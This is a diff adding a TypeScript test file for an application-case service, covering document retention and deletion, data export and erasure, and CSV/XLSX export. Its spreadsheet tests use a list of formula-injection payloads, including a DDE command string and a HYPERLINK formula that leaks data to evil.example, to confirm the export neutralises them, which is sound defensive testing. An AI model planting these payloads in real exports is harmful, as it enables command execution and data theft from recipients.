@@ -1,0 +1,341 @@
+import { parse } from 'csv-parse/sync';
+import { readXlsx } from 'hucre/xlsx';
+import { sql } from 'kysely';
+import { beforeEach, describe, expect, it } from 'vitest';
+import { testApi } from '../../../tests/support/api.ts';
+import { applied, moveCase, pdf, sendForm, type FormPart } from '../../../tests/support/applications.ts';
+import { dayOfDatabasePasses, twoLooks } from '../../../tests/support/two-looks.ts';
+import { PASSWORD, type TestPerson } from '../../../tests/support/people.ts';
+import type { Application } from '../../contract/applications.ts';
+
+/** What is kept of cases: for how long, what a person gets of it and has erased, and what leaves as a table. */
+
+const api = await testApi();
+const { db } = api.handle;
+let office: TestPerson;
+let asha: TestPerson;
+let people = 0;
+beforeEach(async () => {
+  await db.deleteFrom('applications').execute();
+  await db.deleteFrom('mails').execute();
+  await db
+    .updateTable('stored_files')
+    .set({ kept: false, created_at: new Date(0) })
+    .execute();
+  await api.applications.sweep();
+  people += 1;
+  asha = await api.user(`asha${people}@example.com`);
+  office = await api.staff('office@example.com');
+});
+
+const rows = async (table: 'applications' | 'application_documents' | 'stored_files' | 'file_keys') =>
+  Number((await db.selectFrom(table).select(db.fn.countAll().as('n')).executeTakeFirstOrThrow()).n);
+const move = (id: string, event: string) => moveCase(api, 'staff', office, id, event);
+/** Days pass; tokens that ended with them are replaced. */
+async function later(days: number) {
+  api.clock.advance({ days });
+  asha = await api.logIn(asha.email);
+  office = await api.logIn(office.email);
+}
+/** What the job does by the second look, a day later by the database's clock. */
+const tendTwice = () => twoLooks(db, api.applications.tend);
+const read = async (id: string) =>
+  (await api.get(`/api/user/applications/${id}/`, asha.bearer)).body as Application;
+const cv = (): FormPart => ['cv_documents[0][file]', { name: 'cv.pdf', bytes: pdf() }];
+
+describe('documents after the end', () => {
+  it('are deleted when the case has been closed for 30 days, not before, with key and file', async () => {
+    const { id, documents } = await applied(api, asha, [['first_name', 'Asha']]);
+    const other = await applied(api, asha, [['first_name', 'Other']]);
+    await move(id, 'withdraw');
+    await later(40);
+    await move(id, 'close');
+    await later(29);
+    await tendTwice();
+    expect((await read(id)).documents).toHaveLength(1);
+    await later(1);
+    await tendTwice();
+
+    const seen = await read(id);
+    expect(seen).toMatchObject({
+      state: 'closed',
+      first_name: 'Asha',
+      documents: [],
+      documents_deleted_at: api.clock.now().toISOString(),
+    });
+    expect(seen.history.at(-1)).toMatchObject({ event: 'documents_deleted', by: 'system', who: null });
+    expect([await rows('stored_files'), await rows('file_keys')]).toEqual([1, 1]);
+    expect(await api.storage.files()).toHaveLength(1);
+    const gone = `${id}/documents/${documents[0]!.id}/`;
+    for (const [surface, { bearer }] of [
+      ['user', asha],
+      ['staff', office],
+    ] as const) {
+      const refused = await api.get(`/api/${surface}/applications/${gone}`, bearer);
+      expect(refused).toMatchObject({ status: 409, body: { code: 'documents_deleted' } });
+    }
+    const added = await sendForm(api, `/api/user/applications/${id}/documents/`, asha, [cv()]);
+    expect(added).toMatchObject({ status: 409, body: { code: 'documents_deleted' } });
+    expect((await read(other.id)).documents).toHaveLength(1);
+
+    await tendTwice();
+    expect((await read(id)).history.filter(({ event }) => event === 'documents_deleted')).toHaveLength(1);
+  });
+
+  it('stay when the case is taken up again in time, and the days begin anew', async () => {
+    const { id } = await applied(api, asha);
+    await move(id, 'withdraw');
+    await move(id, 'close');
+    const refused = await sendForm(api, `/api/user/applications/${id}/documents/`, asha, [cv()]);
+    expect(refused).toMatchObject({ status: 409, body: { code: 'no_such_move' } });
+    await later(20);
+    await move(id, 'reopen');
+    await later(20);
+    await tendTwice();
+    expect((await read(id)).documents).toHaveLength(1);
+    await move(id, 'reject');
+    await move(id, 'close');
+    await later(29);
+    await tendTwice();
+    expect((await read(id)).documents).toHaveLength(1);
+    await later(2);
+    await tendTwice();
+    expect(await read(id)).toMatchObject({ documents: [], documents_deleted_at: expect.any(String) });
+
+    // Taken up again after that, it takes documents again.
+    await move(id, 'reopen');
+    const added = await sendForm(api, `/api/user/applications/${id}/documents/`, asha, [cv()]);
+    expect(added).toMatchObject({ status: 200, body: { documents_deleted_at: null } });
+  });
+
+  it('go as well when nobody closes the case: 30 days after the last thing in it, it closes by itself', async () => {
+    const resting = await applied(api, asha);
+    const talked = await applied(api, asha, [['first_name', 'Talked']]);
+    const added = await applied(api, asha, [['first_name', 'Added']]);
+    const open = await applied(api, asha, [['first_name', 'Open']]);
+    await move(resting.id, 'withdraw');
+    for (const { id } of [talked, added]) await move(id, 'reject');
+    await later(29);
+    const note = { note: 'Call us.' };
+    await api.ask('POST', `/api/staff/applications/${talked.id}/note/`, office.bearer, note);
+    await sendForm(api, `/api/user/applications/${added.id}/documents/`, asha, [cv()]);
+    await tendTwice();
+    expect((await read(resting.id)).state).toBe('withdrawn');
+
+    await later(1);
+    await tendTwice();
+    await tendTwice();
+    const { state, history, moves } = await read(resting.id);
+    expect([state, moves]).toEqual(['closed', []]);
+    expect(history.slice(2)).toEqual([
+      {
+        at: api.clock.now().toISOString(),
+        event: 'close',
+        from: 'withdrawn',
+        to: 'closed',
+        by: 'system',
+        who: null,
+        note: '',
+        files: [],
+      },
+    ]);
+    expect((await api.lastMail(asha.email)).letter).toMatchObject({
+      template: 'application-moved',
+      data: { reference: resting.reference, state: 'Closed', note: '', who: '' },
+    });
+    for (const { id } of [talked, added]) expect((await read(id)).state).toBe('rejected');
+
+    await later(29);
+    await tendTwice();
+    for (const { id } of [talked, added]) expect((await read(id)).state).toBe('closed');
+    await later(1);
+    await tendTwice();
+    expect(await read(resting.id)).toMatchObject({ documents: [], documents_deleted_at: expect.any(String) });
+    // Where somebody still has something to do, nothing closes and nothing is deleted.
+    expect(await read(open.id)).toMatchObject({ state: 'submitted', documents: [expect.anything()] });
+  });
+
+  it('are unreadable even when the storage does not answer, and gone when it does', async () => {
+    const { id } = await applied(api, asha);
+    await move(id, 'withdraw');
+    await move(id, 'close');
+    await later(31);
+    const { delete: remove } = api.storage;
+    const files = await api.storage.files();
+    try {
+      await api.applications.tend();
+      await dayOfDatabasePasses(db);
+      api.storage.delete = () => Promise.reject(Object.assign(new Error('down'), { code: 'ECONNREFUSED' }));
+      await expect(api.applications.tend()).rejects.toThrow('The storage does not answer.');
+      expect((await read(id)).documents).toEqual([]);
+      expect(await rows('file_keys')).toBe(0);
+      expect(await api.storage.files()).toEqual(files);
+    } finally {
+      api.storage.delete = remove;
+    }
+    await api.applications.tend();
+    expect([await rows('stored_files'), await api.storage.files()]).toEqual([0, []]);
+  });
+});
+
+describe('a person’s data', () => {
+  it('hold every case with fields, consent, documents, history and openings', async () => {
+    const { id, documents } = await applied(api, asha, [
+      ['first_name', 'Asha'],
+      ['address', 'Dharan'],
+    ]);
+    await api.get(`/api/staff/applications/${id}/documents/${documents[0]!.id}/`, office.bearer);
+    await move(id, 'begin_review');
+    const { body } = await api.get('/api/user/export/', asha.bearer);
+    const { applications } = body as { applications: object[] };
+    expect(applications).toEqual([
+      expect.objectContaining({
+        id,
+        first_name: 'Asha',
+        address: 'Dharan',
+        consent_version: '2026-01-01',
+        consent_at: expect.any(String) as string,
+        documents,
+        documents_opened_by_staff_at: [api.clock.now().toISOString()],
+      }),
+    ]);
+    const text = JSON.stringify(applications);
+    expect(text).toContain('begin_review');
+    // Colleagues' names and what opens files are nobody's data but theirs.
+    expect(text).not.toMatch(/office@|wrapped|storage_key|actor/);
+  });
+
+  it('are erased with the account: rows, keys, files, mails and the words of the record', async () => {
+    const bina = await api.user(`bina${people}@example.com`);
+    const hers = await applied(api, asha, [['first_name', 'Asha']]);
+    const his = await applied(api, bina);
+    await api.get(`/api/staff/applications/${hers.id}/documents/${hers.documents[0]!.id}/`, office.bearer);
+    await move(hers.id, 'begin_review');
+    await sendForm(api, '/api/app/application-create/', asha, [cv(), ['last_name', 'Rai']]);
+    expect(await rows('stored_files')).toBe(3);
+    const erased = await api.ask('POST', '/api/user/delete/', asha.bearer, { password: PASSWORD });
+    expect(erased.status).toBe(200);
+
+    // The keys go at once: what still lies on the storage until the next sweep is noise.
+    expect(await rows('file_keys')).toBe(1);
+    await api.applications.tend();
+    expect([await rows('applications'), await rows('application_documents')]).toEqual([1, 1]);
+    expect([await rows('stored_files'), await api.storage.files()]).toMatchObject([1, { length: 1 }]);
+    const record = await db
+      .selectFrom('audit_entries')
+      .selectAll()
+      .where('subject_id', '=', hers.id)
+      .execute();
+    expect(record.map(({ action, detail }) => ({ action, detail }))).toEqual([
+      { action: 'document_opened', detail: {} },
+    ]);
+    // His two remain: the one to him, and the one to the office about his.
+    const mails = await db
+      .selectFrom('mails')
+      .select('recipient')
+      .where('template', 'like', 'application%')
+      .execute();
+    expect(mails.map(({ recipient }) => recipient).sort()).toEqual([bina.email, 'office@prasthan.test']);
+    for (const table of ['application_history', 'idempotency_keys']) {
+      const { rows: orphans } = await sql<{
+        text: string;
+      }>`select t::text as text from ${sql.table(table)} t`.execute(db);
+      expect(orphans.filter(({ text }) => text.includes(hers.id))).toEqual([]);
+    }
+    expect(
+      (await api.get(`/api/user/applications/${his.id}/documents/${his.documents[0]!.id}/`, bina.bearer))
+        .status,
+    ).toBe(200);
+  });
+});
+
+describe('the table for spreadsheets', () => {
+  const FORMULAS = [
+    '=1+1',
+    '+9779800000000',
+    '-2+3',
+    '@SUM(A1)',
+    "=cmd|' /C calc'!A0",
+    '=HYPERLINK("https://evil.example?x="&A1,"click")',
+    '＝1+1',
+    'a,"b";c',
+    'राई',
+  ];
+  const table = async (query = '') => {
+    const answer = await api.get(`/api/staff/applications/export/${query}`, await api.prove(office));
+    expect(answer.headers.get('Content-Type')).toBe('text/csv; charset=utf-8');
+    expect(answer.headers.get('Content-Disposition')).toMatch(/^attachment; filename="applications\.csv"/);
+    const text = (answer.body as Buffer).toString('utf8');
+    expect(text.startsWith('\uFEFF')).toBe(true);
+    return parse<Record<string, string>>(text, { bom: true, columns: true });
+  };
+
+  it('holds every application that fits, and no formula', async () => {
+    for (const formula of FORMULAS) {
+      await applied(api, asha, [
+        ['first_name', formula],
+        ['contact', formula.slice(0, 40)],
+        ['preferred_course', formula],
+      ]);
+      api.clock.advance({ seconds: 1 });
+    }
+    const [last] = (await table()).slice(0, 1);
+    expect(last).toMatchObject({
+      'First name': 'राई',
+      State: 'Submitted',
+      Documents: '1',
+      'Submitted (Nepal time)': expect.stringMatching(/^\d{4}-\d\d-\d\d \d\d:\d\d$/),
+    });
+    const cells = (await table()).flatMap((row) => Object.values(row));
+    expect(cells.filter((cell) => /^[=+\-@＝＋－＠\r\n]/.test(cell))).toEqual([]);
+    expect((await table()).map((row) => row['First name']!.trimStart()).toReversed()).toEqual(FORMULAS);
+    expect(await table('?state=closed')).toEqual([]);
+    expect((await api.get('/api/staff/applications/export/?state=x', await api.prove(office))).status).toBe(
+      400,
+    );
+    const exported = await db
+      .selectFrom('audit_entries')
+      .select('actor_id')
+      .where('action', '=', 'applications_exported')
+      .execute();
+    expect(exported.length).toBeGreaterThan(0);
+    expect(exported.every(({ actor_id }) => actor_id !== null)).toBe(true);
+  });
+
+  it('is a workbook with typed cells too, and names country, intake and score', async () => {
+    await applied(api, asha, [
+      ['first_name', '=1+1'],
+      ['contact', '+9779800000000'],
+      ['test_type', 'IELTS'],
+      ['overall_score', '6.5'],
+    ]);
+    const answer = await api.get('/api/staff/applications/export/?format=xlsx', await api.prove(office));
+    expect(answer.headers.get('Content-Disposition')).toMatch(/filename="applications\.xlsx"/);
+    const { sheets } = await readXlsx(answer.body as Buffer);
+    const [titles, cells] = sheets[0]!.rows as [string[], unknown[]];
+    const row = Object.fromEntries(titles.map((title, at) => [title, cells[at]]));
+    expect(row).toMatchObject({
+      'First name': '=1+1',
+      'Mobile number': '+9779800000000',
+      'Submitted (Nepal time)': expect.any(Date) as Date,
+      Test: 'IELTS',
+      Score: 6.5,
+      Documents: 1,
+    });
+    expect(titles).toEqual(expect.arrayContaining(['Country', 'Course', 'Intake']));
+    expect((await table())[0]).toMatchObject({ 'Mobile number': '\t+9779800000000', Score: '6.5' });
+    const wrong = await api.get('/api/staff/applications/export/?format=pdf', await api.prove(office));
+    expect(wrong).toMatchObject({ status: 400, body: { format: [expect.stringContaining('pdf')] } });
+  });
+
+  it('is read in parts: more rows than one part, each once', async () => {
+    const { id } = await applied(api, asha);
+    await sql`insert into applications (reference, user_id, state, consent_version, consent_at, submitted_at, state_changed_at)
+      select 'PR-' || n, user_id, state, consent_version, consent_at,
+        submitted_at + (n / 7) * interval '1 second', state_changed_at
+      from applications, generate_series(1, 1200) n where id = ${id}`.execute(db);
+    const references = (await table()).map((row) => row['Reference']);
+    expect(references).toHaveLength(1201);
+    expect(new Set(references).size).toBe(1201);
+  });
+});
